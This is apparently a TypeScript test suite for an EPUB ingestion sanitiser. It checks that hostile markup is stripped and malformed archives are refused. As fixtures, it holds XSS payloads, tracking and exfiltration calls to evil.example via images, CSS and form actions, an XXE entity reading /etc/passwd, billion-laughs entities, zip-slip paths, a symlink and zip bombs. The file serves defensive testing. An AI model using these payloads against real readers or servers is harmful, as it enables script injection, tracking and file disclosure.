import { DOMParser } from '@xmldom/xmldom';
import fc from 'fast-check';
import { ingest, isSlip, type Ingested } from '../../infrastructure/content/ingest.ts';
import { RefusedBook, type BookRefusal } from '../../infrastructure/content/refusal.ts';
import { openZip } from '../../infrastructure/content/zip.ts';
import { chapterOf, container, makeEpub, type Made } from './epub-writer.ts';
import { writeZip } from './zip-writer.ts';

const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" ${XLINK}`;

/** All that could act in a package, found without the code under test: each finding as `file: what`. */
const dangers = async ({ epub, manifest }: Ingested): Promise<string[]> => {
  const zip = await openZip(epub);
  const found: string[] = [];
  for (const { href, type } of [...manifest.readingOrder, ...manifest.resources]) {
    const text = (await zip.read(href)).toString('utf8');
    if (/script/u.test(type)) found.push(`${href}: ${type}`);
    if (type === 'text/css' && /https?:|\/\/evil/u.test(text)) found.push(`${href}: ${text}`);
    if (!type.endsWith('xml')) continue;
    const document = new DOMParser().parseFromString(text, 'text/xml');
    for (const element of Array.from(document.getElementsByTagName('*'))) {
      const name = (element.localName ?? '').toLowerCase();
      if (/^(?:script|i?frame|object|embed|applet|form|input|button|select|textarea|base|handler)$/u.test(name)) found.push(`${href}: <${name}>`);
      if (name === 'meta' && element.hasAttribute('http-equiv')) found.push(`${href}: <meta>`);
      for (const { name: attribute, value } of Array.from(element.attributes)) {
        if (/^on|srcdoc|action$|^ping$/iu.test(attribute)) found.push(`${href}: ${attribute}`);
        if (/(?:java|vb)\s*script:|data:(?:text|application)/iu.test(value)) found.push(`${href}: ${attribute}=${value}`);
        if (/evil/u.test(value) && !(name === 'a' && /^(?:https?|mailto):/u.test(value))) found.push(`${href}: ${attribute}=${value}`);
      }
      if (name === 'style' && /evil/u.test(element.textContent ?? '')) found.push(`${href}: <style>`);
    }
    for (const node of Array.from(document.childNodes)) if (node.nodeName === 'xml-stylesheet') found.push(`${href}: <?xml-stylesheet?>`);
  }
  zip.close();
  return found;
};

const chapter = async ({ epub }: Ingested, name = 'OPS/c1.xhtml'): Promise<string> => (await openZip(epub).then((zip) => zip.read(name))).toString('utf8');

/** Attacks inside documents, one book each, with what the librarian is told. The sentence after them must survive. */
const attacks: readonly (readonly [string, string, RegExp])[] = [
  ['inline script', '<script>alert(1)</script>', /<script>/],
  ['external script', '<script src="https://evil.example/x.js"></script>', /<script>/],
  ['script in capitals under a prefix', '<h:SCRIPT xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:SCRIPT>', /<script>/],
  ['script in SVG', `${SVG}><script>alert(1)</script></svg>`, /<script>/],
  ['handler in SVG', `${SVG} onload="alert(1)"><g/></svg>`, /onload/],
  ['foreign object', `${SVG}><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="c1.xhtml"/></foreignObject></svg>`, /<iframe>/],
  ['address set by animation', `${SVG}><a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a></svg>`, /<set>/],
  ['use of data', `${SVG}><use xlink:href="data:image/svg+xml,%3Csvg onload='alert(1)'/%3E"/></svg>`, /xlink:href/],
  ['remote paint in SVG', `${SVG}><rect fill="url(https://evil.example/p.svg#p)"/></svg>`, /fill/],
  ['srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', /<iframe>/],
  ['object', '<object data="data:text/html,x"></object>', /<object>/],
  ['embed', '<embed src="https://evil.example/x.swf"/>', /<embed>/],
  ['form', '<form action="https://evil.example/"><p>名前</p><input name="n"/><button>送る</button></form>', /<form>/],
  ['stray control', '<button formaction="javascript:alert(1)">x</button>', /<button>/],
  ['handler', '<p onclick="alert(1)" onMouseOver="alert(2)">x</p>', /onclick/],
  ['javascript link', '<a href="javascript:alert(1)">x</a>', /href of <a>/],
  ['javascript link in disguise', '<a href=" java&#10;script:alert(1)">x</a>', /href of <a>/],
  ['vbscript link', '<a href="VBScript:x">x</a>', /href of <a>/],
  ['data link', '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', /href of <a>/],
  ['link in MathML', '<math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:alert(1)">x</mi></math>', /href of <mi>/],
  ['remote picture', '<img src="https://evil.example/x.png" alt="絵"/>', /src of <img>/],
  ['remote picture without scheme', '<img src="\\\\evil.example/x.png" alt=""/>', /src of <img>/],
  ['remote candidates', '<img src="" srcset="a.png 1x, //evil.example/x.png 2x" alt=""/>', /srcset/],
  ['remote sound', '<audio src="https://evil.example/x.mp3"></audio><video poster="http://evil.example/x.png"/>', /poster/],
  ['tell-tale link', '<a href="c1.xhtml" ping="https://evil.example/">x</a>', /ping/],
  ['remote style', '<p style="background: u\\72l(https://evil.example/x.png)">x</p>', /style of <p>/],
  ['remote picture set in style', '<style>p { background: image-set("https://evil.example/x.png" 1x) }</style>', /<style>/],
  ['import in style', '<style>/* */@\\69mport "https://evil.example/x.css"; p { color: red }</style>', /@import/],
  ['remote font in style', '<style>@font-face { font-family: x; src: local(x), url("https://evil.example/x.woff2") }</style>', /url/],
];

describe('attacks inside documents are taken out', () => {
  test.each(attacks)('%s', async (_name, attack, note) => {
    const taken = await ingest(makeEpub({ chapters: [`${attack}<p>凪の<ruby>海<rt>うみ</rt></ruby>。</p>`] }));
    expect(await dangers(taken)).toEqual([]);
    expect(taken.removed.join('\n')).toMatch(note);
    expect(await chapter(taken)).toContain('<p>凪の<ruby>海<rt>うみ</rt></ruby>。</p>');
  });

  test.each([
    ['refresh', '<meta http-equiv="Refresh" content="0; url=https://evil.example/"/>', /<meta>/],
    ['base', '<base href="https://evil.example/"/>', /<base>/],
    ['remote style sheet', '<link rel="stylesheet" href="https://evil.example/x.css"/>', /<link>/],
    ['prefetch', '<link rel="prefetch" href="https://evil.example/"/>', /<link>/],
  ])('in the head: %s', async (_name, head, note) => {
    const taken = await ingest(makeEpub({ head }));
    expect(await dangers(taken)).toEqual([]);
    expect(taken.removed.join('\n')).toMatch(note);
  });

  test('XSLT in a style sheet instruction', async () => {
    const taken = await ingest(makeEpub({ chapters: [chapterOf('<p>海</p>').replace('<!DOCTYPE', '<?xml-stylesheet type="text/xsl" href="x.xsl"?><!DOCTYPE')] }));
    expect(await dangers(taken)).toEqual([]);
  });

  test('text of a form and the fallback of an object stay', async () => {
    const taken = await ingest(makeEpub({ chapters: ['<form><p>名前</p><input/></form><object data="x.swf"><p>代わり</p></object><noscript><p>なし</p></noscript>'] }));
    expect(await chapter(taken)).toContain('<p>名前</p><p>代わり</p><p>なし</p>');
  });

  test('scripts hidden from XML in comments and CDATA are text, and stay text', async () => {
    const body = '<p><![CDATA[<script>alert(1)</script>]]></p>';
    const taken = await ingest(makeEpub({ chapters: [body] }));
    expect(await dangers(taken)).toEqual([]);
  });
});

describe('what is a slip and no danger', () => {
  const slips = ['missing', 'file not listed in the package'];

  test('a book that is only packed badly has slips alone', async () => {
    const taken = await ingest(makeEpub({ manifest: '<item id="m" href="m.mp3" media-type="audio/mpeg"/>', extra: [{ name: 'OPS/left over.txt', data: 'x' }] }));
    expect(taken.removed).toEqual(['OPS/m.mp3: missing', 'OPS/left over.txt: file not listed in the package']);
    expect(taken.removed.filter(isSlip)).toEqual(taken.removed);
  });

  test.each(slips)('an attack that ends in ": %s" is none', async (slip) => {
    const taken = await ingest(makeEpub({ chapters: [`<p onclick="x(): ${slip}"><a href="javascript:x(): ${slip}">x</a></p><style>p { background: url("https://evil.example/: ${slip}") }</style>`] }));
    expect(taken.removed).toHaveLength(3);
    expect(taken.removed.filter(isSlip)).toEqual([]);
  });

  test('whatever the file is called, and whatever else was taken out of it', () => {
    const file = fc.string({ unit: 'binary' }).filter((name) => !name.includes(': '));
    fc.assert(fc.property(file, fc.constantFrom(...slips), (name, slip) => isSlip(`${name}: ${slip}`)));
    const what = fc.oneof(fc.string({ unit: 'binary' }), fc.tuple(fc.string(), fc.constantFrom(...slips)).map(([before, slip]) => `${before}: ${slip}`)).filter((one) => !slips.includes(one));
    fc.assert(fc.property(file, what, (name, one) => !isSlip(`${name}: ${one}`)));
  });
});

describe('attacks by other files', () => {
  const withFile = (type: string, path: string, data: string | Uint8Array, made: Made = {}): Promise<Ingested> =>
    ingest(makeEpub({ ...made, files: [{ path, type, data }] }));

  test.each(['application/javascript', 'text/javascript', 'application/ecmascript', 'TEXT/JAVASCRIPT; charset=utf-8', 'text/html+x', 'application/x-shockwave-flash'])(
    'a file of type %s is left out', async (type) => {
      const taken = await withFile(type, 'x.js', 'alert(1)');
      expect(taken.manifest.resources.map((file) => file.href)).toEqual(['OPS/nav.xhtml']);
      expect(await dangers(taken)).toEqual([]);
      expect(taken.removed.join()).toContain('OPS/x.js');
      expect(await chapter(taken, 'OPS/package.opf')).not.toContain('x.js');
    });

  test('a script that says it is a picture is left out', async () => {
    const taken = await withFile('image/png', 'x.png', 'alert(document.cookie)');
    expect(taken.removed).toEqual(['OPS/x.png: not a picture']);
    expect(taken.manifest.resources.map((file) => file.href)).toEqual(['OPS/nav.xhtml']);
  });

  test('a file nobody lists is left out', async () => {
    const taken = await ingest(makeEpub({ extra: [{ name: 'OPS/hidden.xhtml', data: chapterOf('<script/>') }] }));
    expect(taken.removed).toEqual(['OPS/hidden.xhtml: file not listed in the package']);
    expect((await openZip(taken.epub)).entries.has('OPS/hidden.xhtml')).toBe(false);
  });

  test('a picture in SVG loses its script', async () => {
    const taken = await withFile('image/svg+xml', 'x.svg', `${SVG} onload="alert(1)"><script>alert(1)</script><circle r="1"/></svg>`);
    expect(await dangers(taken)).toEqual([]);
    expect(await chapter(taken, 'OPS/x.svg')).toContain('<circle r="1"/>');
  });

  test('a style sheet loses what it would fetch, and nothing else', async () => {
    const css = '@charset "utf-8"; @import url(//evil.example/a.css); @import "b.css"; @namespace svg url(http://www.w3.org/2000/svg);\n'
      + 'p::before { content: "see http://example.org"; background: url( "http://evil.example/x.png" ) }\n'
      + '/* url(http://evil */ q { background: url(pictures/a.png) } r { src: url(ht\\74p://evil.example/f.woff) }';
    const taken = await withFile('text/css', 's.css', css);
    expect(await chapter(taken, 'OPS/s.css')).toBe(
      '@charset "utf-8"; /**/ @import "b.css"; @namespace svg url(http://www.w3.org/2000/svg);\n'
      + 'p::before { content: "see http://example.org"; background: url( "about:invalid" ) }\n'
      + '/* url(http://evil */ q { background: url(pictures/a.png) } r { src: url(about:invalid) }');
    expect(taken.removed).toHaveLength(3);
  });

  test.each([
    ['p { background: u@import ;rl(//evil.example/x.png) }', 'p { background: u/**/rl(//evil.example/x.png) }'],
    ['p { background: \\75@import ;rl(//evil.example/x.png) }', 'p { background: \\75/**/rl(//evil.example/x.png) }'],
    ['p { background: src(@namespace }"//evil.example/x.png") }', 'p { background: src(@namespace }"//evil.example/x.png") }'],
    ['p { background: src(@namespace "//evil.example/x.png") }', 'p { background: src(@namespace "about:invalid") }'],
  ])('what stands around a rule that goes does not grow together: %s', async (css, clean) => {
    expect(await chapter(await withFile('text/css', 's.css', css), 'OPS/s.css')).toBe(clean);
  });

  test('a million open brackets and a hundred thousand rules are read to the end', async () => {
    const taken = await withFile('text/css', 's.css', `${'('.repeat(1_000_000)}${'@import x'.repeat(100_000)}src("//evil.example/x.png")`);
    expect(await dangers(taken)).toEqual([]);
  });

  test('a chapter that calls itself HTML is checked as XHTML and served so', async () => {
    const taken = await ingest(makeEpub({
      manifest: '<item id="h" href="h.html" media-type="text/html"/>', itemrefs: '<itemref idref="h"/>',
      extra: [{ name: 'OPS/h.html', data: chapterOf('<script>alert(1)</script><p>海</p>') }],
    }));
    expect(taken.manifest.readingOrder).toMatchObject([{ href: 'OPS/h.html', type: 'application/xhtml+xml' }]);
    expect(await chapter(taken, 'OPS/package.opf')).not.toContain('text/html');
    expect(await dangers(taken)).toEqual([]);
  });

  test('UTF-16 becomes UTF-8', async () => {
    const utf16 = Buffer.from(`\ufeff${chapterOf('<p onclick="x()">凪</p>').replace('utf-8', 'utf-16')}`, 'utf16le');
    const taken = await ingest(makeEpub({ instead: { 'OPS/c1.xhtml': utf16 } }));
    expect(await chapter(taken)).toMatch(/^<\?xml version="1.0" encoding="UTF-8"\?>[\s\S]*<p>凪<\/p>/u);
  });
});

const laughs = `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "lol">${'bcdefghij'.split('').map((name, i) => `<!ENTITY ${name} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>
<html xmlns="http://www.w3.org/1999/xhtml"><body>&j;</body></html>`;
const encryption = (algorithm: string, uri: string): string => `<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" xmlns:enc="http://www.w3.org/2001/04/xmlenc#">
<enc:EncryptedData><enc:EncryptionMethod Algorithm="${algorithm}"/><enc:CipherData><enc:CipherReference URI="${uri}"/></enc:CipherData></enc:EncryptedData></encryption>`;
const locked = (algorithm: string, uri: string): Buffer => makeEpub({
  files: [{ path: 'f.otf', type: 'font/otf', data: 'OTTO' }], extra: [{ name: 'META-INF/encryption.xml', data: encryption(algorithm, uri) }],
});
const good = makeEpub();
const withEntry = (entry: NonNullable<Made['extra']>[number]): Buffer => makeEpub({ extra: [entry] });
const broken = (body: string): Buffer => makeEpub({ chapters: [`<?xml version="1.0"?>${body}`] });

const refusals: readonly (readonly [string, () => Uint8Array, BookRefusal])[] = [
  ['billion laughs', () => makeEpub({ chapters: [laughs] }), 'dtd'],
  ['external entity', () => broken('<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html>&x;</html>'), 'dtd'],
  ['a subset in the container', () => makeEpub({ instead: { 'META-INF/container.xml': container.replace('<container', '<!DOCTYPE container [ ]><container') } }), 'dtd'],
  ['a subset in a picture', () => makeEpub({ files: [{ path: 'x.svg', type: 'image/svg+xml', data: '<!DOCTYPE svg PUBLIC "a>b" "c" [<!ENTITY x "y">]><svg/>' }] }), 'dtd'],
  ['a path that climbs out', () => withEntry({ name: '../evil', data: 'x' }), 'path-escape'],
  ['a path that climbs out from within', () => withEntry({ name: 'OPS/../../evil', data: 'x' }), 'path-escape'],
  ['a path with backslashes', () => withEntry({ name: '..\\evil', data: 'x' }), 'path-escape'],
  ['an absolute path', () => withEntry({ name: '/etc/passwd', data: 'x' }), 'path-escape'],
  ['a drive', () => withEntry({ name: 'C:/evil', data: 'x' }), 'path-escape'],
  ['a symbolic link', () => withEntry({ name: 'OPS/link', data: '/etc/passwd', mode: 0o120777 }), 'symlink'],
  ['a name twice', () => withEntry({ name: 'OPS/c1.xhtml', data: 'x' }), 'duplicate-name'],
  ['a name twice but for case', () => withEntry({ name: 'OPS/C1.xhtml', data: 'x' }), 'duplicate-name'],
  ['a name twice but for Unicode form', () => makeEpub({ extra: [{ name: 'が'.normalize('NFC'), data: '' }, { name: 'が'.normalize('NFD'), data: '' }] }), 'duplicate-name'],
  ['a name with a line break', () => withEntry({ name: 'a\nb', data: 'x' }), 'bad-name'],
  ['a name in Shift_JIS', () => withEntry({ name: Buffer.from([0x93, 0xfa, 0x96, 0x7b]), data: 'x', flags: 0 }), 'bad-name'],
  ['a bomb by ratio', () => withEntry({ name: 'OPS/zeros', data: Buffer.alloc(20 * 1024 * 1024) }), 'bomb'],
  ['a bomb by claim', () => withEntry({ name: 'OPS/big', data: 'x', claimedSize: 300 * 1024 * 1024 }), 'bomb'],
  ['a bomb by sum', () => makeEpub({ extra: Array.from({ length: 5 }, (_, i) => ({ name: `b${i}`, data: '', deflated: Buffer.alloc(1_300_000), claimedSize: 250 * 1024 * 1024 })) }), 'bomb'],
  ['a bomb that lies about its size', () => makeEpub({
    manifest: '<item id="z" href="z.css" media-type="text/css"/>',
    extra: [{ name: 'OPS/z.css', data: Buffer.alloc(50 * 1024 * 1024), claimedSize: 100 }],
  }), 'damaged'],
  ['too many entries', () => makeEpub({ extra: Array.from({ length: 20_001 }, (_, i) => ({ name: `n${i}`, data: '', stored: true })) }), 'too-many-entries'],
  ['an encrypted entry', () => withEntry({ name: 'OPS/x', data: 'x', flags: 0x801 }), 'encrypted'],
  ['a locked book', () => locked('http://www.w3.org/2001/04/xmlenc#aes256-cbc', 'OPS/c1.xhtml'), 'encrypted'],
  ['a document disguised as fonts are', () => locked('http://www.idpf.org/2008/embedding', 'OPS/c1.xhtml'), 'encrypted'],
  ['elements too deep', () => makeEpub({ chapters: ['<b>'.repeat(20_000) + '</b>'.repeat(20_000)] }), 'too-deep'],
  ['markup too long', () => makeEpub({
    manifest: '<item id="z" href="z.svg" media-type="image/svg+xml"/>', extra: [{ name: 'OPS/z.svg', data: Buffer.alloc(33 * 1024 * 1024, ' '), stored: true }],
  }), 'too-large'],
  ['more scripts than anyone could take out in time', () => makeEpub({ chapters: ['<script/>'.repeat(100_000)] }), 'too-large'],
  ['forms in forms', () => makeEpub({ chapters: ['<form>'.repeat(400) + '<p/>'.repeat(20_000) + '</form>'.repeat(400)] }), 'too-large'],
  ['an element of attributes', () => makeEpub({ chapters: [`<p ${Array.from({ length: 20_000 }, (_, i) => `on${i}=""`).join(' ')}/>`] }), 'too-large'],
  ['a document of tags', () => makeEpub({ chapters: ['<b/>'.repeat(500_001)] }), 'too-large'],
  ['markup that does not close', () => makeEpub({ chapters: ['<p>海'] }), 'not-well-formed'],
  ['attributes without quotes', () => makeEpub({ chapters: ['<p class=x>海</p>'] }), 'not-well-formed'],
  ['a bare ampersand', () => makeEpub({ chapters: ['<p>a & b</p>'] }), 'not-well-formed'],
  ['an unknown entity', () => makeEpub({ chapters: ['<p>a&nbsp;b</p>'] }), 'not-well-formed'],
  ['a character XML has not', () => makeEpub({ chapters: ['<p>\u0008</p>'] }), 'not-well-formed'],
  ['a reference to a character XML has not', () => makeEpub({ chapters: ['<p>&#8;</p>'] }), 'not-well-formed'],
  ['a comment that does not end', () => makeEpub({ chapters: ['<!-- <p>'.repeat(50_000)] }), 'not-well-formed'],
  ['bytes that are not UTF-8', () => makeEpub({ instead: { 'OPS/c1.xhtml': Buffer.from([0x3c, 0x61, 0xff, 0x2f, 0x3e]) } }), 'not-well-formed'],
  ['an encoding EPUB has not', () => makeEpub({ chapters: ['<?xml version="1.0" encoding="iso-2022-jp"?><html xmlns="http://www.w3.org/1999/xhtml"/>'] }), 'not-well-formed'],
  ['a document that is one script', () => broken('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'), 'not-well-formed'],
  ['no zip', () => Buffer.from('%PDF-1.7 …'), 'not-a-zip'],
  ['nothing', () => Buffer.alloc(0), 'not-a-zip'],
  ['a zip cut off', () => good.subarray(0, good.length - 200), 'not-a-zip'],
  ['a zip with its first half missing', () => good.subarray(good.length >> 1), 'damaged'],
  ['a checksum that does not match', () => makeEpub({
    manifest: '<item id="z" href="z.css" media-type="text/css"/>', extra: [{ name: 'OPS/z.css', data: 'a{}', crc: 1 }],
  }), 'damaged'],
  ['a zip without container', () => writeZip([{ name: 'readme.txt', data: 'x' }]), 'no-container'],
  ['a container that names nothing', () => makeEpub({ instead: { 'META-INF/container.xml': '<container/>' } }), 'no-package'],
  ['a container that points outside', () => makeEpub({ instead: { 'META-INF/container.xml': container.replace('OPS/package.opf', '../package.opf') } }), 'no-package'],
  ['a package document that is missing', () => makeEpub({ instead: { 'OPS/package.opf': null } }), 'no-package'],
  ['a package document that is something else', () => makeEpub({ instead: { 'OPS/package.opf': '<html/>' } }), 'no-package'],
  ['a chapter that is missing', () => makeEpub({ instead: { 'OPS/c1.xhtml': null } }), 'missing-file'],
  ['an empty spine', () => makeEpub({ itemrefs: '' }), 'no-spine'],
  ['a spine of unknown items', () => makeEpub({ itemrefs: '<itemref idref="nobody"/>' }), 'no-spine'],
  ['a spine of scripts', () => makeEpub({ files: [{ path: 'x.js', type: 'text/javascript', data: '' }], itemrefs: '<itemref idref="f1"/>' }), 'no-spine'],
];

describe('books that are refused, each with its reason', () => {
  test.each(refusals)('%s', async (_name, bytes, reason) => {
    const refusal: unknown = await ingest(bytes()).catch((error: unknown) => error);
    expect(refusal).toBeInstanceOf(RefusedBook);
    expect(refusal).toMatchObject({ reason, detail: expect.stringMatching(/\S/u) });
  });
});
